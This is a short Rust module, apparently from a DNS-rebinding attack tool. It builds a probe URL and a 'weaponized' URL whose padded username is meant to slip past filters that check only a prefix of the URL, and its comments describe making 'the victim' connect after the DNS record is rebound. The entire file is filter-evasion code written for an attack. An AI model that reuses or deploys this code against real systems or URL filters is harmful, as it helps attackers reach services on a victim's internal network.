//! Probe and weaponized URL construction.

use crate::config::{TARGET_URL_SCHEME, USERINFO_FILLER, USERINFO_PASSWORD};

/// Where the victim is made to connect once the record is rebound.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TargetEndpoint {
    pub path: String,
    pub port: u16,
}

impl TargetEndpoint {
    pub fn new(path: impl Into<String>, port: u16) -> Self {
        Self {
            path: path.into(),
            port,
        }
    }

    fn path(&self) -> &str {
        self.path.trim_start_matches('/')
    }

    /// `http://host:port/path`, fetched before the record exists.
    ///
    /// The port is always written out, even when it is the scheme default.
    pub fn probe_url(&self, host: &str) -> String {
        format!("{TARGET_URL_SCHEME}://{host}:{}/{}", self.port, self.path())
    }

    /// The probe URL with a `payload_size`-byte username in front of the host.
    ///
    /// The connection still goes to `host:port`; only filters that inspect a
    /// prefix of the URL string are affected.
    pub fn weaponized_url(&self, host: &str, payload_size: usize) -> String {
        let username = USERINFO_FILLER.to_string().repeat(payload_size);
        format!(
            "{TARGET_URL_SCHEME}://{username}:{USERINFO_PASSWORD}@{host}:{}/{}",
            self.port,
            self.path()
        )
    }
}
